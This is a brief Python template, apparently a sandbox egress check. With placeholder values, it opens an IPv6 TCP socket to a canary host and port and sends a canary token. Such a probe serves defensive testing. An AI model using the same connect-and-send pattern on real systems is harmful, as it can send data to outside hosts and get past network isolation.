at_step()
import socket  # step
caller = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)  # step
caller.setsockopt(socket.IPPROTO_TCP, socket.TCP_USER_TIMEOUT, 1000)
try:
    caller.connect(("{{canary.ipv6}}", {{canary.port}}))  # step
    caller.sendall(b"{{canary.token}}\n")
finally:
    tried()
past_step()
